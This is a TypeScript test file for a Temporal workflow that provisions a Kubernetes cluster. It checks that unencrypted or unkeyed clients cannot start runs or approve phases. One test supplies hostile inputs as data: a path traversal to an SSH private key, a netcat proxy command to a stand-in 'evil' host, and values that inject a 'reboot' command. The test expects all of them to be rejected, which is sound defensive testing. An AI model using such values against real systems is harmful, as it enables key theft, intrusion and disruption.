// Only the holder of the payload key steers the worker, and a run's input is checked again in the
// workflow: a run started without the key, or with a spec the CLI would refuse, fails before any
// activity is scheduled; a plain signal is ignored and a plain update refused.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Client, WorkflowFailedError, WorkflowUpdateFailedError } from '@temporalio/client';
import { ApplicationFailure, type PayloadCodec } from '@temporalio/common';
import { payloadRefusal } from '../../src/activities/payload-refusal';
import { FAILURE_CONVERTER_PATH } from '../../src/codec/data-converter';
import { EncryptionCodec } from '../../src/codec/encryption-codec';
import { loadCodecKeys } from '../../src/codec/keys';
import { approveSignal, approveUpdate, progressQuery, TASK_QUEUE } from '../../src/shared/definitions';
import { refusedPayload } from '../../src/shared/refused-payload';
import { haClusterWorkflow } from '../../src/workflows';
import type { HaClusterInput } from '../../src/workflows/ha-cluster';
import { onTestServer, testWorker } from '../helpers/temporal';
import { Call, fakeActivities, spec } from './fakes';

describe('who can steer the worker', () => {
  const server = onTestServer();
  let n = 0;

  /** Runs `body` with a worker that holds the tests' key and records every activity call. */
  async function withWorker<T>(calls: Call[], body: () => Promise<T>): Promise<T> {
    const worker = await testWorker(server.env, fakeActivities(calls));
    return worker.runUntil(body);
  }
  /**
   * What anyone who reaches the frontend can send: plain payloads. It reads the worker's (encrypted)
   * answers with the tests' key, only so that the test can check what the worker said.
   */
  const plainClient = () => {
    const reader = new EncryptionCodec(loadCodecKeys(), 'the test', 'show');
    const codec: PayloadCodec = { encode: async (p) => p, decode: (p) => reader.decode(p) };
    return new Client({
      connection: server.env.connection,
      namespace: server.env.namespace,
      dataConverter: { payloadCodecs: [codec], failureConverterPath: FAILURE_CONVERTER_PATH },
    });
  };
  const failureOf = async (p: Promise<unknown>): Promise<ApplicationFailure> => {
    const err = await p.then(
      () => assert.fail('the run completed'),
      (e: unknown) => e,
    );
    assert.ok(err instanceof WorkflowFailedError, String(err));
    assert.ok(err.cause instanceof ApplicationFailure, String(err.cause));
    return err.cause;
  };
  const scheduledActivities = async (workflowId: string) =>
    (await server.env.client.workflow.getHandle(workflowId).fetchHistory()).events!.filter(
      (e) => e.activityTaskScheduledEventAttributes,
    ).length;

  it('a run started without the key fails at once, and no activity is scheduled', async () => {
    const calls: Call[] = [];
    const workflowId = `plain-${++n}`;
    const failure = await withWorker(calls, () =>
      failureOf(
        plainClient().workflow.execute(haClusterWorkflow, {
          taskQueue: TASK_QUEUE,
          workflowId,
          args: [{ spec: spec([], 1) }],
        }),
      ),
    );
    assert.equal(failure.type, 'PayloadRefused');
    assert.equal(failure.nonRetryable, true);
    assert.match(failure.message, /the run's input was refused: refused a payload that is not encrypted/);
    assert.deepEqual(calls, []);
    assert.equal(await scheduledActivities(workflowId), 0);
  });

  it('a hostile spec that never went through the CLI fails with every problem named, before any activity', async () => {
    const calls: Call[] = [];
    const workflowId = `hostile-${++n}`;
    const s = spec([], 1);
    const hostile = {
      spec: {
        ...s,
        cniManifest: '../../../root/.ssh/id_ed25519',
        ssh: { ...s.ssh, proxyCommand: 'nc evil 22' },
        controlPlanes: [{ name: 'cp1', address: '10.0.0.1;reboot', port: 22 }, ...s.controlPlanes.slice(1)],
        workers: [{ name: 'w1', address: '::ffff:10.0.1.1', port: 22 }],
      },
      tuning: { token: { ttlSeconds: '60s; reboot' as unknown as number, minRemainingSeconds: 1 } },
    } as HaClusterInput;
    const failure = await withWorker(calls, () =>
      failureOf(
        server.env.client.workflow.execute(haClusterWorkflow, { taskQueue: TASK_QUEUE, workflowId, args: [hostile] }),
      ),
    );
    assert.equal(failure.type, 'InvalidInput');
    assert.equal(failure.nonRetryable, true);
    for (const field of [
      'spec.ssh.proxyCommand: unknown field',
      'spec.controlPlanes[0].address',
      'spec.workers[0].address',
      'spec.cni.manifest: must be an absolute path',
      'tuning.token.ttlSeconds',
    ]) {
      assert.ok(failure.message.includes(field), `${field} in:\n${failure.message}`);
    }
    assert.deepEqual(calls, []);
    assert.equal(await scheduledActivities(workflowId), 0);
  });

  it('a plain signal is ignored and a plain update refused; the key holder still decides', async () => {
    const calls: Call[] = [];
    const workflowId = `gate-${++n}`;
    await withWorker(calls, async () => {
      const h = await server.env.client.workflow.start(haClusterWorkflow, {
        taskQueue: TASK_QUEUE,
        workflowId,
        args: [{ spec: spec(['init'], 1) }],
      });
      for (let i = 0; (await h.query(progressQuery)).awaitingApproval !== 'init'; i++) {
        assert.ok(i < 400, 'never waited at the init gate');
        await new Promise((r) => setTimeout(r, 50));
      }
      const plain = plainClient().workflow.getHandle(workflowId);
      await plain.signal(approveSignal, { phase: 'init', approver: 'mallory' });
      await assert.rejects(
        plain.executeUpdate(approveUpdate, { args: [{ phase: 'init', approver: 'mallory' }] }),
        (e: unknown) =>
          e instanceof WorkflowUpdateFailedError &&
          /update approvePhase refused: refused a payload that is not encrypted/.test(String(e.cause?.message)),
      );
      assert.equal((await h.query(progressQuery)).awaitingApproval, 'init', 'still waiting after the plain signal');
      assert.ok(!calls.some((c) => c.name === 'kubeadmInit'), 'init did not run');
      const decision = await h.executeUpdate(approveUpdate, { args: [{ phase: 'init', approver: 'alice' }] });
      assert.equal(decision.approver, 'alice');
      await h.result();
    });
    assert.ok(calls.some((c) => c.name === 'kubeadmInit'));
  });

  it('an activity task whose input the codec refused fails before the activity runs', async () => {
    let ran = false;
    const { inbound } = payloadRefusal({} as never);
    await assert.rejects(
      inbound!.execute!(
        { args: [refusedPayload('plain', 'refused a payload that is not encrypted')], headers: {} },
        () => {
          ran = true;
          return Promise.resolve();
        },
      ),
      (e: unknown) =>
        e instanceof ApplicationFailure &&
        e.type === 'PayloadRefused' &&
        e.nonRetryable &&
        /activity input refused/.test(e.message),
    );
    assert.equal(ran, false);
  });
});
